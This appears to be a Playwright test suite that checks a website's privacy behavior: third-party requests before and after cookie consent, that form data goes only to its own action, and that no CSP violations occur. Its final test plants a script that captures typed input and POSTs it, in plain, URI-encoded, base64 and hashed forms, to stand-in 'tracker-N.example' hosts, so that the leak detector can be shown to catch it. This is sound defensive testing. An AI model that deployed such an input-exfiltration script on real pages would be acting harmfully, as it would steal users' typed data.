/**
 * Data leaks: no third-party host before a choice, only allowed ones after it, form input only to its own form; and no
 * CSP violations on any page.
 */
import { type Browser, type BrowserContext, expect, test } from '@playwright/test';
import { OPTIONAL, preferences } from '#domain/privacy/consent.ts';
import { EMBEDS } from '#domain/privacy/third-parties.ts';
import { distinct, pages } from '../site/dist.ts';
import { leaks, recordRequests, type RecordedRequest } from './leaks.ts';
import { scaled } from '../run/slowdown.ts';

const TABS = 4;
const PLANTED = '/planted';
const SECRETS = ['river.sample+leak@example.com', 'Wrenfield-Leakproof', 'we whisper about plums'];
const [EMAIL = '', NAME = '', MESSAGE = ''] = SECRETS;

/** All eight combinations, and no choice yet. */
const CHOICES: readonly (readonly string[] | undefined)[] = [
  undefined,
  ...Array.from({ length: 8 }, (_, bits) => OPTIONAL.filter((_word, at) => (bits >> at) % 2 === 1)),
];
const embedding = distinct.filter(({ $ }) => $('[data-embed]').length).map(({ route }) => route);
const routes = distinct.map(({ route }) => route);

/**
 * All URLs before a choice; all pages with necessary only and with everything; other combinations: each page once, and
 * pages with embeds always.
 */
const routesFor = (at: number): string[] =>
  at <= 1 || at === CHOICES.length - 1
    ? (at === 0 ? pages : distinct).map(({ route }) => route)
    : [...new Set([...embedding, ...routes.filter((_, index) => index % 6 === at - 2)])];

async function visitor(
  browser: Browser,
  own: string,
  choice: readonly string[] | undefined,
): Promise<{ context: BrowserContext; all: RecordedRequest[]; refused: string[] }> {
  const context = await browser.newContext({ baseURL: `http://${own}` });
  await context.route(/\.(?:webp|avif|png|svg|woff2|mp3)$/, (route) => route.abort());
  const all = await recordRequests(context, own);
  const refused: string[] = [];
  context.on('console', (message) => {
    if (/content security policy/i.test(message.text())) refused.push(message.text());
  });
  if (choice)
    await context.addInitScript(
      (kept) => {
        localStorage.setItem('cookie-consent', 'true');
        localStorage.setItem('cookie-consent-timestamp', String(Date.now()));
        localStorage.setItem('cookie-preferences', kept);
      },
      JSON.stringify(preferences(choice)),
    );
  return { context, all, refused };
}

/** Opens all routes in a few tabs, scrolls lazy content into view, and waits for it. */
async function walk(context: BrowserContext, over: readonly string[]): Promise<void> {
  const left = over.values();
  const tab = async (): Promise<void> => {
    const page = await context.newPage();
    for (const route of left) {
      await page.goto(route);
      await page.evaluate(async () => {
        for (const place of document.querySelectorAll('[data-embed]')) {
          place.scrollIntoView({ behavior: 'instant' });
          await new Promise(requestAnimationFrame);
        }
        await new Promise((done) => setTimeout(done, 130));
      });
    }
  };
  await Promise.all(Array.from({ length: TABS }, tab));
}

const foreign = (all: readonly RecordedRequest[], own: string): string[] => [
  ...new Set(all.filter(({ host }) => host !== own).map(({ host }) => host)),
];

test.describe('leaks', { tag: '@desktop' }, () => {
  for (const [at, choice] of CHOICES.entries()) {
    test(`every route: ${choice ? `allowed ${choice.join(', ') || 'only the necessary'}` : 'no choice yet'}`, async ({
      browser,
      baseURL,
    }) => {
      test.setTimeout(scaled(240_000));
      const own = new URL(baseURL ?? '').host;
      const { context, all, refused } = await visitor(browser, own, choice);
      await walk(context, routesFor(at));
      expect(all.length).toBeGreaterThan(20);
      const mayHear = choice?.includes('functional') ? EMBEDS.map(({ host }) => host) : [];
      expect(foreign(all, own).filter((host) => !mayHear.includes(host))).toEqual([]);
      expect(leaks(all, SECRETS)).toEqual([]);
      expect(refused).toEqual([]);
      await context.close();
    });
  }

  const forms = pages.filter(
    ({ $, route }) => $('main form[method="post"]').length && route !== '/404',
  );
  const kinds = new Map(
    forms.map(({ $, route }) => [$('main form[method="post"]').attr('action') ?? '', route]),
  );

  for (const [action, route] of kinds) {
    test(`input on ${route} is only sent to ${action}`, async ({ browser, baseURL }) => {
      const own = new URL(baseURL ?? '').host;
      const { context, all } = await visitor(browser, own, OPTIONAL);
      const page = await context.newPage();
      await page.goto(route);
      const form = page.locator('main form[method="post"]').first();
      for (const field of await form
        .locator('input:visible, textarea:visible, select:visible')
        .all()) {
        const type = await field.evaluate((element) => (element as HTMLInputElement).type);
        // Clicked by script: current times can replace the list of times while it is chosen from.
        if (type === 'checkbox' || type === 'radio')
          await field.evaluate((input: HTMLInputElement) => input.checked || input.click());
        else if (type === 'select-one') await field.selectOption({ index: 1 });
        else if (type === 'email') await field.fill(EMAIL);
        else if (type === 'textarea') await field.fill(MESSAGE);
        else if (type === 'tel') await field.fill('(214) 555-0199');
        else await field.fill(NAME);
      }
      await form.locator('button[type="submit"]').click();
      await page.goto('/team');
      await page.waitForLoadState('networkidle');
      expect(leaks(all, SECRETS, [action])).toEqual([]);
      await context.close();
    });
  }

  test('a planted leak is found, in every encoding', async ({ browser, baseURL }) => {
    const own = new URL(baseURL ?? '').host;
    const { context, all } = await visitor(browser, own, undefined);
    const send = [
      '(value) => value',
      'encodeURIComponent',
      'btoa',
      "async (value) => [...new Uint8Array(await crypto.subtle.digest('SHA-256', new TextEncoder().encode(value)))].map((byte) => byte.toString(16).padStart(2, '0')).join('')",
    ];
    await context.route(`**${PLANTED}`, (route) =>
      route.fulfill({
        contentType: 'text/html',
        body: `<input><script>document.querySelector('input').oninput = async ({ target }) => {
          for (const [at, disguise] of [${send}].entries())
            fetch('https://tracker-' + at + '.example/', { method: 'POST', mode: 'no-cors', body: await disguise(target.value) });
        }</script>`,
      }),
    );
    const page = await context.newPage();
    await page.goto(PLANTED);
    await page.locator('input').fill(EMAIL);
    const found = send.map((_, at) => `POST tracker-${at}.example/`);
    await expect.poll(() => leaks(all, SECRETS).toSorted()).toEqual(found);
    expect(foreign(all, own).toSorted()).toEqual(send.map((_, at) => `tracker-${at}.example`));
    await context.close();
  });
});
